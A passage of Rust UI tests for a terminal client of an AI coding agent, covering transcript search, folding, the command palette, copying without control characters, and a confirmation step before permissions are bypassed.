    assert_eq!(at(&s), Some(last - 5), "{}", s.shown);
    s.press(Code::Up);
    assert_eq!(at(&s), Some(last - 6));
    s.press(Code::Down).press(Code::Down);
    assert_eq!(at(&s), Some(last));
    s.typed("/file-3").press(Code::Enter);
    assert_eq!(at(&s), Some(last - 5), "it is shown there");
    s.press(Code::Enter).draw();
    assert!(s.shown.contains("✓ read   file-3.rs"), "{}", s.shown);
}

#[test]
fn what_is_selected_stays_in_sight_while_the_agent_goes_on_until_reading_is_left() {
    let mut s = Scene::working(80, 24);
    s.tool("t", ToolKind::Execute, "make", ToolStatus::Completed);
    s.draw();
    let has_selected = |s: &Scene| s.shown.lines().any(|row| row.starts_with('┃') && row.contains("make"));
    s.press(Code::F(10)).draw();
    assert!(has_selected(&s), "{}", s.shown);
    let before = s.shown.clone();
    (0..60).for_each(|n| s.say(&format!("more {n}\n\n")));
    s.draw();
    assert!(has_selected(&s) && !s.shown.contains("more 59"), "{before}\n{}", s.shown);
    s.press(Code::Esc).draw();
    assert!(s.shown.contains("more 59"), "{}", s.shown);
}

#[test]
fn what_is_looked_for_and_stands_below_is_said_to_be_there() {
    let mut s = Scene::working(80, 24);
    s.say("the first");
    s.tool("t", ToolKind::Execute, "make", ToolStatus::Completed);
    s.say("a needle");
    s.draw();
    s.press(Code::F(10)).typed("[").draw();
    s.typed("/needle").press(Code::Enter);
    assert!(s.draw().contains("nothing of that above · N looks below"), "{}", s.shown);
    s.typed("/nowhere").press(Code::Enter);
    assert!(s.draw().contains("nothing of that above") && !s.shown.contains("looks below"), "{}", s.shown);
}

#[test]
fn while_reading_n_goes_from_place_to_place_in_one_long_message() {
    let mut s = Scene::working(80, 24);
    s.say("the first needle\n\n");
    s.tool("t", ToolKind::Execute, "make", ToolStatus::Completed);
    let line = |n: u32| format!("    line {n}{}\n", if n % 50 == 7 { " Needle" } else { "" });
    let lines = (0..200).map(line).collect::<Vec<_>>().concat();
    s.say(&format!("words\n\n{lines}"));
    s.draw();
    s.press(Code::F(10)).typed("/needle").press(Code::Enter);
    let marked = |s: &Scene| {
        let style = s.theme.style(Token::Selected);
        assert!(style.bg.is_some() || !style.add_modifier.is_empty());
        let is_marked = |x: u16, y: u16| {
            let cell = &s.buf[(x, y)];
            style.bg.is_none_or(|bg| cell.bg == bg)
                && cell.modifier.contains(style.add_modifier)
                && cell.symbol() != " "
        };
        let row = |y: u16| (0..80).filter(|x| is_marked(*x, y)).map(|x| s.buf[(x, y)].symbol()).collect::<String>();
        (0..24).map(row).filter(|words| words.eq_ignore_ascii_case("needle")).count()
    };
    for at in ["line 157 Needle", "line 107 Needle", "line 57 Needle", "line 7 Needle", "the first needle"] {
        s.draw();
        assert!(s.shown.contains(at) && marked(&s) == 1, "{at}: {}", s.shown);
        s.typed("n");
    }
    assert!(s.draw().contains("no more of that above"), "{}", s.shown);
    for at in ["line 7 Needle", "line 57 Needle"] {
        s.typed("N").draw();
        assert!(s.shown.contains(at), "{at}: {}", s.shown);
    }
    s.press(Code::Up).draw();
    assert_eq!(marked(&s), 0, "another entry is another matter: {}", s.shown);
}

#[test]
fn ten_thousand_places_are_gone_to_one_by_one_and_each_lays_out_what_it_shows() {
    let mut s = Scene::working(80, 24);
    for entry in 0..100 {
        let said = (0..100).map(|n| format!("needle {entry}-{n}\n\n")).collect::<Vec<_>>().concat();
        s.say(&said);
        s.tool(&format!("t{entry}"), ToolKind::Execute, "make", ToolStatus::Completed);
    }
    s.draw();
    s.press(Code::F(10)).typed("/needle").press(Code::Enter);
    let place = |s: &Scene| s.ui.view.reading.as_ref().and_then(|r| r.hit.as_ref()).map(|hit| hit.from.at);
    let mut last = place(&s).expect("a place");
    for n in 1..10_000 {
        s.typed("n");
        let at = place(&s).expect("a place");
        assert!(at < last, "{n}: {at:?} after {last:?}");
        assert!(s.transcript.laid_out() <= 64, "{n}: {}", s.transcript.laid_out());
        last = at;
        if n % 1000 == 999 {
            let (entry, line) = ((9999 - n) / 100, (9999 - n) % 100);
            assert!(s.draw().contains(&format!("needle {entry}-{line}")), "{n}: {}", s.shown);
        }
    }
    s.typed("n");
    assert_eq!(place(&s), Some(last));
    assert!(s.draw().contains("no more of that above"), "{}", s.shown);
}

#[test]
fn the_mode_that_asks_nothing_is_asked_about_once_more_and_stays_in_sight() {
    let mut s = Scene::ready(100, 24);
    s.press(Code::F(2)).typed("bypass");
    assert!(s.draw().contains("permissions"), "{}", s.shown);
    s.press(Code::Enter);
    assert!(s.draw().contains("without a question?") && s.intents().is_empty(), "{}", s.shown);
    s.press(Code::Enter).draw();
    assert_eq!(s.intents(), [], "the first row changes nothing");
    s.press(Code::F(2)).typed("bypass").press(Code::Enter).press(Code::Down).press(Code::Enter);
    let choice = PermissionMode::BypassPermissions.into();
    assert_eq!(s.intents(), [Intent::SetPermissionMode(choice)]);
    s.intent(Intent::SetPermissionMode(choice));
    assert!(s.draw().contains("permissions bypassPermissions"), "{}", s.shown);
    s.press(Code::Char('x')).ctrl('c');
    assert!(s.draw().contains("cleared") && s.shown.contains("bypass"), "a message hides it not: {}", s.shown);
}

#[test]
fn enter_sends_the_tour_where_one_is_offered_and_nothing_was_said() {
    let mut s = Scene::ready(80, 24);
    s.press(Code::Enter);
    assert!(s.intents().is_empty());
    s.ui.tour = Some("Show me around.".into());
    assert!(s.draw().contains("Press Enter for the tour"), "{}", s.shown);
    s.typed("x").draw();
    assert!(!s.shown.contains("the tour"), "{}", s.shown);
    s.press(Code::Backspace).press(Code::Enter);
    assert_eq!(s.intents(), [Intent::Prompt { text: "Show me around.".into(), links: Vec::new() }]);
    s.end_turn(Stop::EndTurn);
    s.press(Code::Enter);
    assert_eq!(s.intents().len(), 1, "something was said");
}

#[test]
fn a_few_words_of_ours_hide_neither_the_first_screen_nor_the_tour() {
    let mut s = Scene::ready(80, 24);
    s.ui.tour = Some("Show me around.".into());
    s.ui.remarks = (1..6).map(|n| format!("prompts/{n}.md: left out: it is empty")).collect();
    s.event(Event::Host(HostEvent::Warning { message: "every frame of this session is written to x".into() }));
    assert!(s.draw().contains("F1        all keys"), "{}", s.shown);
    for words in ["Press Enter for the tour", "! every frame", "! prompts/3.md: left out", "2 more: acp-tui doctor"] {
        assert!(s.shown.contains(words), "{words}: {}", s.shown);
    }
    assert!(!s.shown.contains("prompts/4.md"), "{}", s.shown);
    s.press(Code::Enter);
    assert_eq!(s.intents().len(), 1);
    assert!(!s.draw().contains("prompts/1.md") && !s.shown.contains("all keys"), "{}", s.shown);
}

#[test]
fn what_the_persons_own_program_says_takes_the_place_of_context_and_cost() {
    let mut s = Scene::ready(100, 24);
    s.update(Update::Usage { used: 42_000, size: 200_000, cost: Patch::Set((0.12, "USD".into())) });
    assert!(s.draw().lines().last().unwrap().contains("21 %"), "{}", s.shown);
    s.ui.status_words = Some(StyledText::of("main, 21 of 100", Token::Text));
    let last = s.draw().lines().last().unwrap().to_owned();
    assert!(last.ends_with("main, 21 of 100") && !last.contains("21 %") && !last.contains('$'), "{last}");
    s.ui.status_words = Some(StyledText::new());
    assert!(s.draw().lines().last().unwrap().contains("21 %"), "nothing was said: {}", s.shown);
}

#[test]
fn what_the_person_said_at_length_is_folded() {
    let mut s = Scene::ready(80, 30);
    let text = (1..=400).map(|n| format!("line {n}\n")).collect::<Vec<_>>().concat();
    s.intent(prompt(&text));
    assert!(s.draw().contains("line 8") && s.shown.contains("▸ 392 more lines"), "{}", s.shown);
    assert!(!s.shown.contains("line 9"), "{}", s.shown);
    s.press(Code::F(10)).press(Code::Enter).press(Code::Esc);
    assert!(s.draw().contains("line 400") && !s.shown.contains("more lines"), "{}", s.shown);
    s.press(Code::F(10)).press(Code::Enter).press(Code::Esc);
    assert!(s.draw().contains("▸ 392 more lines"), "{}", s.shown);
    let Some(row) = s.shown.lines().position(|line| line.contains("392 more")) else { panic!() };
    s.click(5, row as u16);
    assert!(s.draw().contains("line 9"), "a click unfolds it: {}", s.shown);
    assert!(s.row(2).trim_end().ends_with("line 1"), "downwards: {}", s.shown);
}

#[test]
fn sixteen_lines_are_shown_whole() {
    let mut s = Scene::ready(80, 30);
    s.intent(prompt(&"line\n".repeat(16)));
    assert!(!s.draw().contains("more"), "{}", s.shown);
}

#[test]
fn a_long_paste_is_folded_sent_whole_and_unfolded_by_ctrl_o() {
    let mut s = Scene::ready(80, 24);
    let text = "one two\n".repeat(40);
    s.input(Input::Paste(text.clone()));
    assert!(s.draw().contains("❯ [pasted 40 lines]"), "{}", s.shown);
    assert!(s.shown.contains("Ctrl+O unfolds what was pasted"), "{}", s.shown);
    s.ctrl('o');
    assert!(!s.draw().contains("[pasted"), "{}", s.shown);
    s.ctrl('u').ctrl('c');
    s.input(Input::Paste(text.clone()));
    s.typed("why?").press(Code::Enter);
    assert_eq!(s.intents(), [prompt(&format!("{text}why?"))]);
    s.press(Code::Up);
    assert_eq!(s.ui.view.composer.text(), format!("{text}why?"), "the history has all of it");
}

#[test]
fn a_patch_that_goes_along_with_a_reason_is_drawn_as_one() {
    let mut s = Scene::ready(80, 24);
    s.intent(prompt("why\n```diff\n--- a/x\n+++ b/x\n-old\n+new\n```\nthat is it"));
    s.draw();
    let rows: Vec<&str> = s.shown.lines().filter_map(|row| row.trim().strip_prefix('▌')).map(str::trim).collect();
    assert_eq!(rows, ["why", "--- a/x", "+++ b/x", "-old", "+new", "that is it"]);
}

fn with_own_prompts() -> Scene {
    let mut s = Scene::ready(80, 24);
    let prompt = |name: &str, text: &str| OwnPrompt::new(name.to_owned(), text);
    s.ui.own_prompts = [prompt("faults", "# Look for faults\nin $ARGUMENTS"), prompt("btw", "mine")].into();
    s
}

#[test]
fn a_prompt_of_the_persons_own_is_listed_completed_and_sent_with_the_words_behind_it() {
    let mut s = with_own_prompts();
    let shown = s.typed("/fau").draw().to_owned();
    assert!(shown.contains("▸ /faults … ") && shown.contains("Look for faults"), "{shown}");
    s.press(Code::Tab).typed("src and tests").press(Code::Enter);
    let [Intent::Prompt { text, .. }] = &s.intents()[..] else { panic!("{:?}", s.intents()) };
    assert_eq!(text, "# Look for faults\nin src and tests");
    let mut s = with_own_prompts();
    let shown = s.typed("/bt").draw().to_owned();
    assert!(shown.contains("/btw QUESTION") && !shown.contains("mine"), "{shown}");
    // What is no name of one is sent as it is.
    let mut s = with_own_prompts();
    s.typed("/faultsx y").press(Code::Enter);
    let [Intent::Prompt { text, .. }] = &s.intents()[..] else { panic!("{:?}", s.intents()) };
    assert_eq!(text, "/faultsx y");
}

#[test]
fn a_colon_opens_the_palette_and_what_nothing_is_found_for_is_a_text() {
    let mut s = Scene::ready(80, 24);
    s.typed(":").draw();
    assert!(s.ui.picker.is_some());
    s.typed("review").press(Code::Esc);
    assert_eq!((s.ui.picker.is_some(), s.ui.view.composer.text()), (false, ":review"));
    let mut s = Scene::ready(80, 24);
    s.typed(":-) thanks: all");
    assert_eq!((s.ui.picker.is_some(), s.ui.view.composer.text()), (false, ":-) thanks: all"));
    let mut s = Scene::ready(80, 24);
    s.typed(":").press(Code::Backspace);
    assert_eq!((s.ui.picker.is_some(), s.ui.view.composer.text()), (false, ""));
    // What no action begins with is a text, also where its letters stand scattered in one, or begin a mode or theme.
    for prose in [":no", ":yeah", "::", ":D", ":wq", ":dark", ":no thanks", ":wq!"] {
        let mut s = Scene::ready(80, 24);
        s.typed(prose);
        // What looks like a name of ours is not sent without a word.
        if [":no", ":yeah", ":wq", ":dark"].contains(&prose) {
            s.press(Code::Enter).draw();
            assert!(s.intents().is_empty() && s.shown.contains("Enter again sends it"), "{prose}: {}", s.shown);
            let mut other = Scene::ready(80, 24);
            other.typed(prose).press(Code::Enter).after(100).typed("x").press(Code::Enter);
            assert!(other.intents().is_empty(), "another text is asked about anew: {:?}", other.intents());
        }
        s.press(Code::Enter);
        let [Intent::Prompt { text, .. }] = &s.intents()[..] else { panic!("{prose}: {:?}", s.intents()) };
        assert_eq!(text, prose);
    }
    // Enter does what is found, as in the palette.
    s.typed(":redraw").press(Code::Enter);
    assert!(s.ui.picker.is_none() && s.outs.contains(&Out::Redraw), "{:?}", s.outs);
}

#[test]
fn behind_a_colon_stand_the_names_that_plain_lines_have_too() {
    for (typed, found) in
        [(":gate", "next gate"), (":panel", "show or hide the panel"), (":mod", "next mode"), (":perm", "modes and")]
    {
        let mut s = Scene::ready(120, 40);
        assert!(s.typed(typed).draw().contains(found), "{typed}: {}", s.shown);
    }
    let mut s = Scene::ready(120, 40);
    s.typed(":gate").press(Code::Enter);
    assert!(matches!(s.intents().last(), Some(Intent::SetGate(_))), "{:?}", s.intents());
    let mut other = Scene::ready(120, 40);
    other.ui.themes = vec!["auto", "amber", "light"];
    assert!(other.typed(":theme").draw().contains("amber"), "{}", other.shown);
    // Who asks for a group of the options sees that.
    let mut options = Scene::ready(80, 24);
    options.typed(":permissions").press(Code::Enter).draw();
    assert!(
        options.shown.contains("options: permissions") && options.shown.contains("acceptEdits"),
        "{}",
        options.shown
    );
    // In the palette they find it as well.
    s.ctrl('p').typed("permissions").draw();
    assert!(s.shown.contains("modes and options"), "{}", s.shown);
}

#[test]
fn what_is_deleted_to_its_beginning_behind_a_colon_leaves_none() {
    for keys in ["rev", "rev there is no such name", ""] {
        let mut s = Scene::ready(80, 24);
        s.typed(":").typed(keys).ctrl('u');
        assert!(s.ui.picker.is_none(), "{keys}: {}", s.draw());
        assert_eq!(s.ui.view.composer.text(), "", "{keys}");
    }
    let mut s = Scene::ready(80, 24);
    s.typed(":rev").ctrl('w').draw();
    assert!(s.ui.picker.is_some(), "a word is deleted, and the list stays: {}", s.shown);
    s.ctrl('w').draw();
    assert!(s.ui.picker.is_none() && s.ui.view.composer.is_empty(), "{}", s.shown);
}

#[test]
fn what_is_for_the_client_is_not_said_to_be_sent() {
    let mut s = Scene::ready(80, 24);
    s.typed(":permissions plan").draw();
    assert!(s.last_row().contains("Enter runs it") && !s.last_row().contains("sends"), "{}", s.shown);
    let mut s = Scene::working(80, 24);
    s.typed(":permissions plan").draw();
    assert!(s.last_row().contains("Enter runs it") && !s.last_row().contains("queues"), "{}", s.shown);
    s.press(Code::Enter);
    assert_eq!(s.intents(), [Intent::SetPermissionMode(PermissionMode::Plan.into())], "at once");
    let mut s = Scene::ready(80, 24);
    s.typed(":permissions to read are missing").draw();
    assert!(s.last_row().contains("Enter sends"), "{}", s.shown);
}

#[test]
fn in_the_palette_what_does_something_comes_before_what_is_set_already() {
    let value = |name: &str| Choice { value: name.into(), name: name.into(), description: None, group: None };
    let first = |current: &str| {
        let mut s = Scene::ready(80, 24);
        s.update(Update::Options(vec![ConfigOption {
            id: "style".into(),
            name: "Style".into(),
            description: None,
            category: None,
            kind: OptionKind::Select { current: current.into(), values: vec![value("Rev"), value("Plain")] },
            pending: None,
        }]));
        s.ctrl('p').typed("revi");
        s.press(Code::Backspace).draw();
        s.ui.picker.as_ref().unwrap().matching()[0].label.clone()
    };
    assert_eq!(first("Plain"), "Rev");
    assert!(first("Rev").starts_with("review"), "{}", first("Rev"));
}

#[test]
fn a_name_behind_a_colon_with_more_behind_it_does_not_go_to_the_agent_unasked() {
    let mut s = Scene::ready(80, 24);
    s.typed(":permissions plan").press(Code::Enter);
    assert_eq!(s.intents(), [Intent::SetPermissionMode(PermissionMode::Plan.into())]);
    assert!(s.ui.view.composer.is_empty());
    let mut s = Scene::ready(80, 24);
    s.typed(":permissions bypassPermissions").press(Code::Enter).draw();
    assert!(s.intents().is_empty() && s.shown.contains("without a question?"), "{}", s.shown);
    // What cannot be done is said, and sent by a second Enter; what only begins like one is prose.
    for (text, said) in [
        (":permissions sometimes", "a permission mode is one of"),
        (":gate off", ":gate takes nothing behind it here · Enter again sends it to the agent"),
        (":mode plan", ":mode takes nothing behind it here"),
    ] {
        let mut s = Scene::ready(120, 24);
        s.typed(text).press(Code::Enter).draw();
        assert!(s.intents().is_empty() && s.shown.contains(said), "{text}: {}", s.shown);
        assert_eq!(s.ui.view.composer.text(), text);
        s.press(Code::Enter);
        assert_eq!(s.intents(), [prompt(text)]);
    }
    for text in [":permissionless design?", ":gated off", ": gate off"] {
        let mut s = Scene::ready(80, 24);
        s.typed(text).press(Code::Enter);
        assert_eq!(s.intents(), [prompt(text)]);
    }
}

#[test]
fn what_was_said_while_reading_goes_when_reading_is_left() {
    let mut s = Scene::working(80, 24);
    s.say("an answer");
    s.end_turn(Stop::EndTurn);
    s.draw();
    s.press(Code::F(10)).typed("f");
    assert!(s.draw().contains("nothing") || s.shown.contains("no more"), "{}", s.shown);
    let said = s.last_row().to_owned();
    s.press(Code::Esc).draw();
    assert_ne!(s.last_row(), said);
    assert!(s.ui.toast.is_none(), "{}", s.shown);
}

#[test]
fn the_keys_that_search_and_choose_while_reading_are_named_at_80_columns() {
    let mut s = Scene::working(80, 24);
    looked(&mut s, "full", 5);
    s.end_turn(Stop::EndTurn);
    s.draw();
    s.press(Code::F(10)).draw();
    assert!(s.last_row().contains("/ searches") && s.last_row().contains("v several"), "{}", s.shown);
}

#[test]
fn of_a_message_that_is_too_long_for_a_narrow_screen_whole_parts_stay() {
    let mut s = Scene::ready(40, 10);
    s.typed("x").press(Code::F(4)).draw();
    s.ui.say("nothing here is called that · Enter again sends it to the agent", s.now);
    s.draw();
    assert_eq!(s.last_row().trim(), "nothing here is called that");
}

#[test]
fn the_palette_marks_the_theme_that_is_drawn_with() {
    let mut s = Scene::ready(120, 40);
    (s.ui.themes, s.ui.theme) = (vec!["auto", "dark", "light"], Some("dark"));
    s.ctrl('p').typed("theme").draw();
    let row = |name: &str| s.shown.lines().find(|row| row.trim_end().ends_with(name)).unwrap().to_owned();
    assert!(row("dark").contains('✓') && !row("light").contains('✓') && !row("auto").contains('✓'), "{}", s.shown);
}

#[test]
fn a_group_that_is_asked_for_by_its_name_rests_on_what_is_set() {
    let chosen = |s: &mut Scene| s.draw().lines().find(|row| row.contains('▸')).unwrap_or_default().to_owned();
    let mut s = Scene::ready(120, 40);
    (s.ui.themes, s.ui.theme) = (vec!["auto", "dark", "light"], Some("dark"));
    s.ctrl('p').typed("theme");
    assert!(chosen(&mut s).contains("✓") && chosen(&mut s).trim_end().ends_with("dark"), "{}", s.shown);
    let mut s = Scene::ready(120, 40);
    s.intent(Intent::SetPermissionMode(PermissionMode::Plan.into()));
    s.typed(":permissions").press(Code::Enter);
    assert!(chosen(&mut s).contains("✓") && chosen(&mut s).contains("plan"), "{}", s.shown);
    s.press(Code::Enter).draw();
    assert_eq!(s.model.first().session().chosen_permission_mode(), PermissionMode::Plan);
    // One key never goes on with asking nothing.
    s.intent(Intent::SetPermissionMode(PermissionMode::BypassPermissions.into()));
    s.typed(":permissions").press(Code::Enter);
    assert!(!chosen(&mut s).contains("bypassPermissions") && !chosen(&mut s).contains("✓"), "{}", s.shown);
}

#[test]
fn a_file_that_is_written_without_a_change_is_an_edit() {
    let mut s = Scene::working(100, 24);
    let mut write = ToolPatch::new("w".into());
    write.kind = Patch::Set(ToolKind::Edit);
    write.title = Patch::Set("NOTES.md".into());
    write.status = Patch::Set(ToolStatus::Completed);
    write.locations = Patch::Set(vec![Location { path: "/home/me/src/shop/NOTES.md".into(), line: None }]);
    write.raw_input = Patch::Set(serde_json::json!({ "filePath": "/home/me/src/shop/NOTES.md", "content": "one" }));
    s.update(Update::ToolCall(write.into()));
    let entry = s.model.first().session().entries().last().unwrap().id;
    s.tool("r", ToolKind::Read, "README.md", ToolStatus::Completed);
    s.say("last");
    s.draw();
    s.press(Code::F(10)).typed("E").draw();
    assert_eq!(s.ui.view.reading.as_ref().map(|reading| reading.at), Some(entry), "{}", s.shown);
}

#[test]
fn options_that_are_told_while_their_list_is_open_come_into_it() {
    let mut s = Scene::new(80, 24);
    s.start();
    s.press(Code::F(2)).draw();
    assert!(s.shown.contains("the agent is starting") && !s.shown.contains("plan mode"), "{}", s.shown);
    s.agent(AgentEvent::Initialized(Ok(InitResult::default())));
    let mode = |id: &str, name: &str| Mode { id: id.into(), name: name.into(), description: None };
    let modes = Modes {
        current: "default".into(),
        pending: None,
        available: vec![mode("default", "default mode"), mode("plan", "plan mode")],
    };
    let before = s.draw().to_owned();
    s.agent(AgentEvent::SessionOpened(Ok(Box::new(SessionResult {
        id: session(),
        modes: Some(modes),
        options: None,
        model: None,
        commands: None,
        earlier: 0,
    }))));
    s.typed("plan m").draw();
    assert!(s.shown.contains("plan mode") && !s.shown.contains("starting"), "{before} {}", s.shown);
    s.press(Code::Enter);
    assert_eq!(s.intents().last(), Some(&Intent::SetMode { id: "plan".into() }));
}

#[test]
fn that_no_file_matches_is_said() {
    let mut s = Scene::ready(80, 24);
    s.typed("see @zzzz");
    let nothing = |s: &mut Scene, text: &str| s.ui.view.mentions.find(text.to_owned(), Vec::new());
    nothing(&mut s, "zz");
    assert!(!s.draw().contains("no file matches"), "it is still being looked for: {}", s.shown);
    nothing(&mut s, "zzzz");
    assert!(s.draw().contains("no file matches"), "{}", s.shown);
}

#[test]
fn at_forty_columns_the_list_of_commands_says_what_they_do() {
    let mut s = Scene::ready(40, 10);
    s.commands(&["review-everything-in-here"]);
    s.typed("/").draw();
    let row = s.shown.lines().find(|row| row.contains("/review")).unwrap().to_owned();
    let said = s.model.first().session().commands[0].description.clone();
    assert!(!said.is_empty() && row.contains(&said[..said.len().min(10)]), "{}", s.shown);
}

#[test]
fn an_edit_that_is_only_above_is_named_with_its_key_where_none_is_below() {
    let mut s = Scene::working(160, 24);
    s.say("first");
    let mut edit = ToolPatch::new("e".into());
    edit.kind = Patch::Set(ToolKind::Edit);
    edit.status = Patch::Set(ToolStatus::Completed);
    let change = Change::of_texts("a.rs", Some("one".into()), "two".into());
    edit.content = Patch::Set(vec![ToolContent::Change(change)]);
    s.update(Update::ToolCall(edit.into()));
    s.say("last");
    s.draw();
    s.press(Code::F(10)).typed("e").draw();
    assert!(s.shown.contains("no more of that below · E looks above"), "{}", s.shown);
    s.typed("E").typed("E").draw();
    assert!(s.shown.contains("no more of that above") && !s.shown.contains("looks below"), "{}", s.shown);
    let mut wide = Scene::ready(220, 24);
    wide.say("said");
    wide.draw();
    wide.press(Code::F(10)).draw();
    assert!(wide.last_row().contains("E e edits"), "{}", wide.shown);
}

#[test]
fn what_is_looked_for_is_counted() {
    let mut s = Scene::working(80, 24);
    s.say("first about parcels");
    s.tool("a", ToolKind::Execute, "make", ToolStatus::Failed);
    s.say("then about parcels, and parcels again");
    s.tool("b", ToolKind::Execute, "make", ToolStatus::Failed);
    s.say("nothing more");
    s.end_turn(Stop::EndTurn);
    s.draw();
    s.press(Code::F(10)).typed("/parcels").press(Code::Enter);
    assert!(s.draw().contains("2 of 2 entries that have it"), "{}", s.shown);
    s.typed("n");
    assert!(s.draw().contains("2 of 2 entries that have it"), "the other place in it: {}", s.shown);
    s.typed("n");
    assert!(s.draw().contains("1 of 2 entries that have it"), "{}", s.shown);
    s.typed("/nothing").press(Code::Enter).draw();
    assert!(!s.shown.contains("entries that have it"), "there is none above: {}", s.shown);
    s.typed("N");
    assert!(s.draw().contains("the only entry that has it"), "{}", s.shown);
}

/// What was there before is seen in a diff, so that it is found: also where more of it is folded away than is shown.
#[test]
fn removed_lines_are_found_in_diffs_patches_and_refused_edits_and_what_is_folded_opens_for_them() {
    let mut s = Scene::working(80, 30);
    s.say("first");
    let old: String = (0..20).map(|n| format!("gone-{n}\n")).collect::<Vec<_>>().concat();
    let mut edit = ToolPatch::new("edit".into());
    (edit.kind, edit.status) = (Patch::Set(ToolKind::Edit), Patch::Set(ToolStatus::Completed));
    edit.content =
        Patch::Set(vec![ToolContent::Change(Change::of_texts("src/a.rs", Some(old.into()), "kept\n".into()))]);
    s.update(Update::ToolCall(edit.into()));
    let mut patch = ToolPatch::new("patch".into());
    (patch.title, patch.status) = (Patch::Set("apply_patch".into()), Patch::Set(ToolStatus::Completed));
    let text = "*** Begin Patch\n*** Update File: src/b.rs\n@@\n-patched-away\n+put\n*** End Patch";
    patch.raw_input = Patch::Set(serde_json::json!({ "input": text }));
    s.update(Update::ToolCall(patch.into()));
    s.ask_edit(1, "src/c.rs", "refused-away\n", "proposed\n", &["Reject"]);
    s.intent(Intent::Answer { req: ReqId(1), option: "opt-1".into() });
    let mut failed = ToolPatch::new("call-1".into());
    failed.status = Patch::Set(ToolStatus::Failed);
    failed.content = Patch::Set(vec![ToolContent::Block(Block::Text("the person said no".into()))]);
    s.update(Update::ToolUpdate(failed.into()));
    s.say("last");
    s.end_turn(Stop::EndTurn);
    s.draw();
    s.press(Code::F(10));
    let look = |s: &mut Scene, words: &str| {
        s.typed("/").typed(words).press(Code::Enter).draw();
        let reading = s.ui.view.reading.as_ref().unwrap();
        (s.shown.contains(words), reading.hit.is_some(), reading.at)
    };
    let (is_shown, is_hit, _) = look(&mut s, "refused-away");
    assert!(is_shown && is_hit, "{}", s.shown);
    let (is_shown, is_hit, _) = look(&mut s, "patched-away");
    assert!(is_shown && is_hit, "{}", s.shown);
    assert!(!s.shown.contains("gone-19"), "it is folded away: {}", s.shown);
    let (is_shown, is_hit, edited) = look(&mut s, "gone-19");
    assert!(is_shown && is_hit && s.ui.view.folds.of(edited) == Some(Fold::Open), "{}", s.shown);
    // The patch is what is copied, too.
    s.outs.clear();
    s.typed("y");
    let copied = match &s.outs[..] {
        [Out::Copy(_, text)] => text.clone(),
        outs => panic!("{outs:?}"),
    };
    assert!(copied.contains("-gone-19\n+kept\n"), "{copied}");
    let (_, is_hit, _) = look(&mut s, "first");
    assert!(is_hit && s.ui.view.folds.of(edited).is_none(), "it is as it was before it was looked at");
}

#[test]
fn what_is_found_in_a_call_that_shares_a_row_is_unfolded_as_far_as_it_is_seen() {
    let mut s = Scene::working(80, 24);
    s.say("before");
    for id in ["first", "second", "third"] {
        looked(&mut s, id, 40);
    }
    s.say("after");
    s.end_turn(Stop::EndTurn);
    s.draw();
    assert!(s.shown.contains("3 calls"), "{}", s.shown);
    s.press(Code::F(10)).typed("/line 17 of").press(Code::Enter);
    for id in ["third", "second", "first"] {
        s.draw();
        let reading = s.ui.view.reading.as_ref().unwrap();
        let is_selected = s.shown.lines().any(|row| row.starts_with('┃') && row.contains("line 17 of"));
        assert!(s.shown.contains(&format!("line 17 of {id}")) && is_selected && reading.hit.is_some(), "{}", s.shown);
        s.typed("n");
    }
    assert!(s.draw().contains("no more of that above"), "{}", s.shown);
    s.typed("N").draw();
    assert!(s.shown.contains("line 17 of second"), "{}", s.shown);
    s.typed("/after").press(Code::Enter).typed("N").draw();
    assert!(s.shown.contains("3 calls"), "it shares its row again\n{}", s.shown);
}

#[test]
fn what_is_found_at_the_cut_end_of_a_row_is_unfolded_and_what_no_row_has_is_named() {
    let mut s = Scene::working(60, 24);
    let mut patch = ToolPatch::new("t".into());
    (patch.kind, patch.status) = (Patch::Set(ToolKind::Execute), Patch::Set(ToolStatus::Completed));
    let command = format!("printf {} needle", "x".repeat(60));
    patch.title = Patch::Set(command.clone());
    patch.raw_input = Patch::Set(serde_json::json!({ "command": command }));
    s.update(Update::ToolCall(patch.into()));
    looked(&mut s, "long", 3000);
    s.end_turn(Stop::EndTurn);
    s.draw();
    assert!(!s.shown.contains("needle"), "{}", s.shown);
    s.press(Code::F(10)).typed("/needle").press(Code::Enter).draw();
    assert!(s.shown.contains("needle"), "{}", s.shown);
    // Further down than is ever laid out.
    s.typed("/line 2900 of").press(Code::Enter).typed("N").draw();
    assert!(s.shown.contains("p pages all of it"), "{}", s.shown);
    s.typed("/line 1800 of").press(Code::Enter).draw();
    assert!(s.shown.contains("line 1800 of long"), "{}", s.shown);
}

#[test]
fn what_a_command_of_ours_has_printed_is_searched_copied_and_paged() {
    let mut s = Scene::working(80, 24);
    s.runs(1, "make");
    let lines: Vec<String> = (1..=300).map(|n| format!("printed line {n}.")).collect();
    s.prints(1, &lines.join("\n"));
    s.exits(1, 0);
    s.press(Code::F(10)).draw();
    assert!(!s.shown.contains("printed line 120."), "{}", s.shown);
    s.typed("/line 120.").press(Code::Enter).draw();
    assert!(s.shown.contains("printed line 120."), "{}", s.shown);
    s.outs.clear();
    s.typed("yp");
    let whole = format!("make\n{}", lines.join("\n"));
    let page = EditorJob::Page { text: whole.clone() };
    assert_eq!(s.outs, [Out::Copy(What::Characters(whole.chars().count()), whole), Out::Edit(page)]);
    let parts = s.typed("Y").ui.picker.as_ref().map(|picker| format!("{picker:?}")).unwrap_or_default();
    assert!(parts.contains("output") && parts.contains("line 300."), "{parts}");
}

#[test]
fn what_is_copied_has_no_control_characters() {
    let mut s = Scene::working(80, 24);
    let mut patch = ToolPatch::new("t".into());
    patch.kind = Patch::Set(ToolKind::Execute);
    patch.title = Patch::Set("print\u{1b}[1mf".into());
    let text = "```console\n\u{1b}[31mred\u{1b}[0m\r\n\u{7}beep\tend\n```";
    patch.content = Patch::Set(vec![ToolContent::Block(Block::Text(text.into()))]);
    s.update(Update::ToolCall(patch.into()));
    s.say("so \u{1b}]0;x\u{7}it\u{9b}2J is\r\n");
    s.end_turn(Stop::EndTurn);
    s.draw();
    let copied = |s: &mut Scene, keys: &[Code]| {
        s.outs.clear();
        for key in keys {
            s.press(*key).draw();
        }
        match &s.outs[..] {
            [Out::Copy(_, text)] => text.clone(),
            outs => panic!("{outs:?}"),
        }
    };
    s.ctrl('y').draw();
    assert!(matches!(&s.outs[..], [.., Out::Copy(_, text)] if text.trim_end() == "so it is"), "{:?}", s.outs);
    s.press(Code::F(10)).draw();
    assert_eq!(copied(&mut s, &[Code::Char('y')]).trim_end(), "so it is");
    assert!(copied(&mut s, &[Code::Up, Code::Char('y')]).ends_with("red\nbeep\tend\n```"));
    let output = copied(&mut s, &[Code::Char('Y'), Code::Down, Code::Enter]);
    assert!(output.contains("red\nbeep\tend") && !output.contains('\u{1b}'), "{output:?}");
}

